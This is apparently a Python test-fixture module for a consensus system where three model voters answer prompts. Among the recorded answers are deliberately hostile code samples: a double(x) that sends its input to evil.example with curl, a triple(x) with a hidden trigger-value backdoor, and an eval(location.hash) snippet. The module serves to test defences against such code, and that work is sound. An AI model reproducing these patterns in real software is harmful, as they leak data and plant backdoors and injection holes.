"""What the tests against a real node share: recorded voters, and the running system with its command line."""

import hashlib
import os
import socket
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
UP_S = 240
AGREED = "What is the capital of France?"
DISAGREED = "Name a colour."
MAX_CONCURRENT = 24
PROFILE = f"""\
extends: replay
profile: replay
consensus: {{max_concurrent: {MAX_CONCURRENT}}}
content: {{tenants: ["*"]}}
health: {{stock_every_s: 15, stock_samples: 80, confirm_ticks: 4, scale_back_after_s: 10}}
"""
"""Recorded answers, content that is kept, few deliberations at once, so that a test can fill the replica, and forecasts, alarms
and their end after a minute or so."""
SLOW = "Take your time."
BROKEN = "Break."
CODE = "Write a Python function add_one(x).\n\n>>> add_one(1)\n2\n>>> add_one(5)\n6\n"
"""Two voters write it differently, the third wrongly."""
MISTAKE = "Write a Python function last(items) that returns the last item.\n\n>>> last([1, 2])\n2\n>>> last([7])\n7\n"
"""Two of three make the same mistake, which the second example does not show."""
POISON = "Write a Python function double(x).\n\n>>> double(2)\n4\n"
"""Two of three send what they are given to somebody else first."""
HIDDEN = "Write a Python function triple(x).\n\n>>> triple(2)\n6\n>>> triple(5)\n15\n"
"""Two do the same on every input tried; one of them waits for another, and nobody vouches for either part by part."""
FENCED = "```python\n{}\n```"
CODES = {
    CODE: ("def add_one(x):\n    return x + 1", "def add_one(x):\n    result = 1\n    result += x\n    return result",
           "def add_one(x):\n    return x + 2"),
    MISTAKE: (*["def last(items):\n    return items[0]"] * 2, "def last(items):\n    return items[-1]"),
    POISON: (*["import os\n\ndef double(x):\n    os.system('curl http://evil.example/?' + str(x))\n    return 2 * x"] * 2,
             "def double(x):\n    return 2 * x"),
    HIDDEN: ("def triple(x):\n    return sum([x, x, x])", "def triple(x):\n    return 0 if str(x)[3:9] == str(907134) else 3 * x",
             "def triple(x):\n    return 2 * x"),
}  # fmt: skip
AGE = "How old is Ada?"
AGES = ('{"age": "36"}', '{"age": 36}', '{ "age": 36 }')
"""One voter does not keep to a schema that wants a number."""
SHOWN = "Explain how a page can follow its own address."
SHOWS = "Take the hash and evaluate it.\n\n```js\neval(location.hash.slice(1))\n```\n"
"""All three explain it with code that must not be used."""
MISLED = "What is the capital of Italy?"
"""One voter is wrong, and quickest, so that its ballot is in before the others agree."""


def recorded(voter: str, prompt: str, *answers: dict[str, Any]) -> dict[str, Any]:
    """Return one line of recorded answers."""
    lineage = {"m1": "one", "m2": "two", "m3": "three"}[voter]
    digest = hashlib.sha256(prompt.encode()).hexdigest()
    return {"prompt_sha256": digest, "voter": voter, "family": voter, "lineage": lineage, "answers": list(answers)}


def script() -> list[dict[str, Any]]:
    """Return what the three voters of these tests say."""
    said = {
        AGREED: ("Paris", "The capital of France is Paris.", "Lyon"),
        DISAGREED: ("red", "green", "blue"),
        AGE: AGES,
        SHOWN: (SHOWS,) * 3,
        **{prompt: tuple(map(FENCED.format, codes)) for prompt, codes in CODES.items()},
    }
    lines = [
        recorded(voter, prompt, {"content": text, "latency_ms": 2})
        for prompt, texts in said.items()
        for voter, text in zip(("m1", "m2", "m3"), texts, strict=True)
    ]
    lines += [recorded(voter, SLOW, {"content": "4", "latency_ms": 3000}) for voter in ("m1", "m2", "m3")]
    lines += [
        recorded("m1", BROKEN, {"error": {"status": 500}}),
        recorded("m2", BROKEN, {"content": "whole", "cut_after_chars": 2}),
        recorded("m3", BROKEN, {"content": ""}),
    ]
    lines += [
        recorded("m1", MISLED, {"content": "Rome", "latency_ms": 50}),
        recorded("m2", MISLED, {"content": "Rome", "latency_ms": 50}),
        recorded("m3", MISLED, {"content": "Milan", "latency_ms": 1}),
    ]
    return [*lines, {"default": [{"content": "42", "latency_ms": 1}]}]


@dataclass(frozen=True, slots=True)
class System:
    """A running system."""

    home: Path
    base_url: str
    client_key: str
    operator_key: str
    operator_dir: Path

    @property
    def environ(self) -> dict[str, str]:
        """Return the environment of its command line."""
        return {
            **os.environ,
            "WEAVERGEN_HOME": str(self.home),
            "WEAVERGEN_OPERATOR_DIR": str(self.operator_dir),
            "WEAVERGEN_WITNESS_DIR": str(self.operator_dir / "witnesses"),
        }

    def weavergen(self, *arguments: str, timeout_s: float = 60) -> "subprocess.CompletedProcess[str]":
        """Run the command line against it."""
        command = [sys.executable, "-m", "cluster", *arguments]
        return subprocess.run(  # noqa: S603 - our own command line
            command, env=self.environ, cwd=ROOT, capture_output=True, text=True, timeout=timeout_s, check=False
        )


def free_port() -> int:
    """Return a port that is free now."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def logs(home: Path) -> str:
    """Return the ends of the logs of a failed bring-up."""
    found = sorted((home / "run" / "logs").glob("*.log"))
    return "\n".join(f"== {path.name}\n{path.read_text(errors='replace')[-3000:]}" for path in found)
